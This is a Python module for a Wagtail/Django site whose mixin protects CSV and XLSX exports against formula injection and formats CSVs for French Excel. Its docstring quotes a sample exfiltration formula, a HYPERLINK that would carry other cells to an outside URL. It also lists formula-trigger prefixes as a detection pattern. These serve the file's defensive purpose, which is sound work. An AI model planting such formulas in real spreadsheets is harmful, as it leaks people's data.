"""Spreadsheets we hand out (CSV and XLSX): safe to open, and readable by French Excel.

Every export of the suite goes through :class:`SafeSpreadsheetExportMixin`, a thin layer over
Wagtail's ``SpreadsheetExportMixin``:

* **Formula injection.** A cell holds what employees typed (a helpfulness comment, a poll
  choice, a person's name). A spreadsheet program reads a text cell that starts with ``=``,
  ``+``, ``-``, ``@``, a tab or a carriage return as a formula, and a formula can fetch a URL
  that carries the sheet's other cells away (``=HYPERLINK("http://…"&A1, "click")``). Such a
  text is prefixed with a single quote, as OWASP advises ("CSV Injection"), in CSV and XLSX
  alike: one rule, and a cell copied from the XLSX into a CSV stays inert. Numbers and dates
  are not text: they stay numbers and dates.
* **French Excel.** Excel reads a CSV in the system's code page and splits it on the list
  separator of the system's locale, ``;`` in French. A UTF-8 byte order mark and ``;`` make the
  file open in columns with its accents intact; LibreOffice and Python's ``csv`` read it too.
  A view may choose the delimiter by language instead (``csv_delimiter_by_language``: ``,`` in
  English, ``;`` otherwise); ``?delimiter=`` (``;``, ``,`` or ``tab``) overrides either.
* **Flat memory.** The CSV streams row by row from whatever iterable it is given (a generator is
  never materialised); the XLSX is written by openpyxl's write-only mode into a temporary file
  that the response then streams, instead of Wagtail's in-memory buffer; the JSON (opt-in,
  ``json_export``) streams like the CSV. JSON is not a spreadsheet: its values are written as
  they are, never prefixed.
"""

from __future__ import annotations

import codecs
import csv
import datetime
import json
import tempfile
from collections.abc import Iterable, Iterator
from typing import Any

from django.http import FileResponse, StreamingHttpResponse
from django.utils import translation
from django.utils.encoding import force_str
from django.utils.translation import get_language
from wagtail.admin.views.mixins import Echo, SpreadsheetExportMixin

# What makes a spreadsheet program read a text cell as a formula (OWASP, "CSV Injection").
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
CSV_DELIMITER = ";"
# What ``?delimiter=`` may ask for (a tab is spelt "tab" in a URL).
CSV_DELIMITERS = {";": ";", ",": ",", "tab": "\t", "\t": "\t"}
FORMAT_JSON = "json"


def delimiter_for_language(language: str | None) -> str:
    """The list separator spreadsheet programs expect in ``language``: ``,`` in English, ``;``
    in French (and the other languages whose decimal mark is a comma, the common case here)."""
    return "," if (language or "").lower().startswith("en") else ";"


def json_value(value: Any) -> Any:
    """``value`` as JSON: numbers, text, booleans and null as they are, dates in ISO 8601,
    anything else (a lazy string, a withheld figure) as its text."""
    if value is None or isinstance(value, bool | int | float | str):
        return value
    if isinstance(value, datetime.date | datetime.time):
        return value.isoformat()
    return force_str(value)


def neutralise_cell(value: Any) -> Any:
    """``value`` as a spreadsheet cell that no program evaluates: a text starting like a formula
    gets a leading single quote; anything else (numbers, dates, empty cells) is returned as is."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def in_language(chunks: Iterable[bytes], language: str | None) -> Iterator[bytes]:
    """``chunks`` each made in ``language``. A streamed file is made after its view returned,
    when the admin's language (the user's preference) is no longer active: its headings, and any
    text made as it goes, would otherwise come out in the site's default language, and its
    delimiter follow that language."""
    chunks = iter(chunks)
    while True:
        with translation.override(language):
            chunk = next(chunks, None)
        if chunk is None:
            return
        yield chunk


class SafeSpreadsheetExportMixin(SpreadsheetExportMixin):
    """Wagtail's CSV and XLSX export with every cell neutralised, and a CSV for French Excel.

    Put it before any Wagtail view that already has ``SpreadsheetExportMixin`` (such as
    ``ReportView``) so that its methods come first. It also works without a request (a
    management command writing a file): the delimiter then comes from ``csv_delimiter``."""

    # Offer ``?export=json`` too (off by default: the existing exports keep their two formats).
    json_export = False
    # ``,`` in English and ``;`` otherwise, instead of always ``;``.
    csv_delimiter_by_language = False
    # A fixed delimiter (a command's ``--delimiter``); None: from the request and the language.
    csv_delimiter: str | None = None

    def setup(self, request, *args, **kwargs):
        super().setup(request, *args, **kwargs)
        if self.json_export and request.GET.get("export") == FORMAT_JSON:
            self.is_export = True

    def get_csv_delimiter(self) -> str:
        """``?delimiter=`` if it names one of :data:`CSV_DELIMITERS`, else ``csv_delimiter``, else
        by language (``csv_delimiter_by_language``), else ``;``."""
        request = getattr(self, "request", None)
        asked = request.GET.get("delimiter") if request is not None else None
        if asked in CSV_DELIMITERS:
            return CSV_DELIMITERS[asked]
        if self.csv_delimiter:
            return self.csv_delimiter
        if self.csv_delimiter_by_language:
            return delimiter_for_language(get_language())
        return CSV_DELIMITER

    def preprocess_field_value(self, field, value, export_format):
        # The one hook both formats write each data cell through (``write_csv_row`` and
        # ``generate_xlsx_row``), after Wagtail's own conversions (lists joined, dates made naive).
        return neutralise_cell(super().preprocess_field_value(field, value, export_format))

    def get_heading(self, queryset, field):
        return neutralise_cell(super().get_heading(queryset, field))

    def stream_csv(self, queryset: Iterable) -> Iterator[bytes]:
        """Wagtail's ``stream_csv`` with ``;`` (see :meth:`get_csv_delimiter`) between cells and a
        byte order mark first (rows come out of ``Echo`` as UTF-8 bytes), one row at a time."""
        writer = csv.DictWriter(Echo(), fieldnames=self.list_export, delimiter=self.get_csv_delimiter())
        headings = {field: self.get_heading(queryset, field) for field in self.list_export}
        yield codecs.BOM_UTF8 + writer.writerow(headings)
        for item in queryset:
            yield self.write_csv_row(writer, self.to_row_dict(item))

    def write_csv_response(self, queryset):
        response = StreamingHttpResponse(
            in_language(self.stream_csv(queryset), get_language()), content_type="text/csv; charset=utf-8"
        )
        response["Content-Disposition"] = f'attachment; filename="{self.get_filename()}.csv"'
        return response

    def write_xlsx_response(self, queryset):
        """Wagtail's XLSX (write-only workbook, every cell neutralised) written to a temporary
        file rather than to memory; the response streams the file and closes (deletes) it."""
        output = tempfile.TemporaryFile()  # noqa: SIM115 (FileResponse closes it once sent)
        self.write_xlsx(queryset, output)
        output.seek(0)
        return FileResponse(
            output,
            as_attachment=True,
            content_type="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
            filename=f"{self.get_filename()}.xlsx",
        )

    def get_json_metadata(self) -> dict:
        """What the JSON says before its rows (a report's range, say); nothing by default."""
        return {}

    def stream_json(self, queryset: Iterable) -> Iterator[bytes]:
        """``{...metadata, "columns": [{"key", "label"}], "rows": [{key: value}, ...]}``, one row
        at a time; values as :func:`json_value` writes them (no formula prefix: not a sheet)."""
        columns = [
            {"key": field, "label": force_str(SpreadsheetExportMixin.get_heading(self, queryset, field))}
            for field in self.list_export
        ]
        head = {key: json_value(value) for key, value in self.get_json_metadata().items()}
        head["columns"] = columns
        yield json.dumps(head, ensure_ascii=False)[:-1].encode() + b', "rows": ['
        separator = b""
        for item in queryset:
            row = {field: json_value(value) for field, value in self.to_row_dict(item).items()}
            yield separator + json.dumps(row, ensure_ascii=False).encode()
            separator = b", "
        yield b"]}\n"

    def write_json_response(self, queryset):
        response = StreamingHttpResponse(
            in_language(self.stream_json(queryset), get_language()), content_type="application/json"
        )
        response["Content-Disposition"] = f'attachment; filename="{self.get_filename()}.json"'
        return response

    def as_spreadsheet(self, queryset, spreadsheet_format):
        if spreadsheet_format == FORMAT_JSON and self.json_export:
            return self.write_json_response(queryset)
        return super().as_spreadsheet(queryset, spreadsheet_format)
